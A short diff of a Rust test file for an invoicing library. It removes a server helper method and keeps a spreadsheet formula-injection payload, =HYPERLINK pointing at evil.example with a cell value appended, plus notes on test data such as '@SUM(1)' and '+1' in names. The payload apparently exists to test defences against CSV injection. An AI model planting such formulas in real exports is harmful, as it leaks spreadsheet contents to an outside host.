@@ -18,20 +18,6 @@ use tally_invoicing::lifecycle::finalize_sealed;
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#;
 
-impl Server {
-    async fn text(&self, path: &str, key: &str) -> String {
-        let res = self
-            .http
-            .get(format!("{}{path}", self.base))
-            .bearer_auth(key)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(res.status(), StatusCode::OK, "{path}");
-        res.text().await.unwrap()
-    }
-}
-
 /// October 2026, finalized: acme's partner line is named by the partner (a
 /// formula as SKU name, `+1` as unit, a tab-led second SKU name) from a
 /// provider an admin named `@SUM(1)`; umbrella's invoice is voided by
